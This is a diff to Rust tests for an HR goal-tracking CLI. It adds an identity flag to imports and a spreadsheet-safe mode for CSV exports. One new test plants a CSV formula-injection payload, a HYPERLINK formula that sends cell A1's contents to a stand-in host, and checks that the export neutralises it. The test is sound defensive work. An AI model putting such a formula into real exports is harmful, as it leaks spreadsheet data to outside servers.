@@ -18,6 +18,7 @@ use proptest::prelude::*;
 
 use common::sample_data as sample;
 use pdca::hr::export::{self, Export, Options};
+use pdca::hr::table::Cells;
 use pdca::hr::{import, table, validity};
 use pdca::messages::Lang;
 use pdca::model::{
@@ -111,7 +112,7 @@ fn a_measured_metric_comes_back_from_an_export_as_its_value() {
     let first = dir.path().join("first.toml");
     pdca(&data).args(["--as", HR, "export", "-o"]).arg(&first).assert().success();
     let copy = dir.path().join("copy");
-    pdca(&copy).args(["--as", HR, "import", "--from-export"]).arg(&first).assert().success();
+    pdca(&copy).args(["--as", HR, "import", "--identity", "demo", "--from-export"]).arg(&first).assert().success();
     let rebuilt = Store::new(&copy).read_goals_file("2026", "P0001").unwrap().unwrap();
     // Six people of 総務部 completed DX推進研修 in the sample.
     assert_eq!(rebuilt.goals[0].metric, Some(Metric::typed("名", 0.0, 10.0, 6.0)));
@@ -125,7 +126,7 @@ fn export_import_export_of_the_sample_is_byte_identical() {
     pdca(&data).args(["--as", HR, "export", "-o"]).arg(&first).assert().success().stdout("");
     let copy = dir.path().join("copy");
     pdca(&copy)
-        .args(["--as", HR, "import", "--from-export"])
+        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
         .arg(&first)
         .assert()
         .success()
@@ -136,7 +137,7 @@ fn export_import_export_of_the_sample_is_byte_identical() {
     pdca(&copy).arg("check").assert().success().stdout(predicate::str::contains("0 error(s)"));
     // Importing again into a folder that holds a data set is refused.
     pdca(&copy)
-        .args(["--as", HR, "import", "--from-export"])
+        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
         .arg(&first)
         .assert()
         .failure()
@@ -206,7 +207,7 @@ fn the_csv_export_parses_back_to_the_same_rows() {
         let bytes = export_of(&data, &["--format", "csv", "--lang", flag]);
         let (header, rows) = parse_csv(&bytes);
         assert_eq!(header, table::header(lang));
-        assert_eq!(rows, table::rows(&toml_export, lang), "{flag}");
+        assert_eq!(rows, table::rows(&toml_export, lang, Cells::SpreadsheetSafe), "{flag}");
         // Every record ends in CRLF; line breaks inside a field stay as they were.
         let text = String::from_utf8(bytes).unwrap();
         assert!(text.ends_with("\r\n"));
@@ -222,6 +223,27 @@ fn the_csv_export_parses_back_to_the_same_rows() {
     let without_goals = toml_export.people.iter().filter(|p| p.goals.is_empty()).count();
     let (_, rows) = parse_csv(&export_of(&data, &["--format", "csv"]));
     assert_eq!(rows.len(), toml_export.goal_count() + without_goals);
+}
+
+#[test]
+fn cells_a_spreadsheet_would_run_as_formulas_are_quoted_unless_raw() {
+    let (_dir, data) = sample();
+    let file = data.join("cycles/2026/goals/P0011.toml");
+    let text = fs::read_to_string(&file).unwrap();
+    let hostile = "=HYPERLINK(\\\"http://example.invalid/?\\\"&A1,\\\"更新\\\")";
+    fs::write(&file, text.replacen("title = \"受験申込オンライン受付の実施\"", &format!("title = \"{hostile}\""), 1))
+        .unwrap();
+    let written = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"更新\")";
+    let title_of = |bytes: &[u8]| {
+        let (_, rows) = parse_csv(bytes);
+        rows.into_iter().find(|row| row[10] == "P0011-2026-1").unwrap()[11].clone()
+    };
+    assert_eq!(title_of(&export_of(&data, &["--format", "csv"])), format!("'{written}"));
+    assert_eq!(title_of(&export_of(&data, &["--format", "csv", "--raw"])), written);
+    // The TOML export is data, not a spreadsheet: the title as it is.
+    let toml_export: Export = toml::from_str(&String::from_utf8(export_of(&data, &[])).unwrap()).unwrap();
+    let goal = toml_export.people.iter().flat_map(|p| &p.goals).find(|g| g.id == "P0011-2026-1").unwrap();
+    assert_eq!(goal.title, written);
 }
 
 #[test]
@@ -301,14 +323,14 @@ fn a_data_set_with_errors_is_refused_or_exported_in_part_with_force() {
     fs::write(&bad, export.to_toml().unwrap()).unwrap();
     let copy = dir.path().join("copy");
     pdca(&copy)
-        .args(["--as", HR, "import", "--from-export"])
+        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
         .arg(&bad)
         .assert()
         .code(1)
         .stderr(predicate::str::contains("names unknown goal `NO-SUCH`"));
     assert!(!copy.join("pdca.toml").exists());
     pdca(&copy)
-        .args(["--as", HR, "import", "--force", "--from-export"])
+        .args(["--as", HR, "import", "--identity", "demo", "--force", "--from-export"])
         .arg(&bad)
         .assert()
         .success()
@@ -322,14 +344,14 @@ fn a_malformed_export_is_refused_with_its_position() {
     let file = dir.path().join("x.toml");
     fs::write(&file, "schema = \"pdca-hr-export/1\"\ngenerated_at = \n").unwrap();
     pdca(&dir.path().join("new"))
-        .args(["--as", HR, "import", "--from-export"])
+        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
         .arg(&file)
         .assert()
         .failure()
         .stderr(predicate::str::contains("x.toml:2:"));
     fs::write(&file, "schema = \"something-else/9\"\ngenerated_at = 2027-04-01T09:00:00+09:00\norganisation = \"x\"\n[cycle]\nid = \"1\"\nstart = 2026-04-01\nend = 2027-03-31\n").unwrap();
     pdca(&dir.path().join("new"))
-        .args(["--as", HR, "import", "--from-export"])
+        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
         .arg(&file)
         .assert()
         .failure()
@@ -351,13 +373,13 @@ fn only_hr_may_export_or_import() {
     fs::write(&file, export_of(&data, &[])).unwrap();
     let copy = dir.path().join("copy");
     pdca(&copy)
-        .args(["--as", NOT_HR, "import", "--from-export"])
+        .args(["--as", NOT_HR, "import", "--identity", "demo", "--from-export"])
         .arg(&file)
         .assert()
         .failure()
         .stderr(predicate::str::contains("P0011").and(predicate::str::contains("hr role")));
     assert!(!copy.exists() || fs::read_dir(&copy).unwrap().next().is_none(), "nothing written");
-    pdca(&copy).args(["--as", HR, "import", "--from-export"]).arg(&file).assert().success();
+    pdca(&copy).args(["--as", HR, "import", "--identity", "demo", "--from-export"]).arg(&file).assert().success();
 }
 
 // ---------------------------------------------------------------------------------
@@ -769,6 +791,7 @@ fn build(
         schema_version: SCHEMA_VERSION,
         organisation,
         current_cycle: "C1".into(),
+        identity: None,
         score: formula.map(|(s, high)| {
             let mut formula = ScoreFormula::default();
             formula.points.s = s;
@@ -845,9 +868,9 @@ proptest! {
         prop_assert_eq!(goals(&back.data), goals(&data));
 
         // The CSV of it parses back to the export's rows.
-        let bytes = table::to_csv(&parsed, Lang::Ja);
+        let bytes = table::to_csv(&parsed, Lang::Ja, Cells::SpreadsheetSafe);
         let (header, rows) = parse_csv(&bytes);
         prop_assert_eq!(header, table::header(Lang::Ja));
-        prop_assert_eq!(rows, table::rows(&parsed, Lang::Ja));
+        prop_assert_eq!(rows, table::rows(&parsed, Lang::Ja, Cells::SpreadsheetSafe));
     }
 }
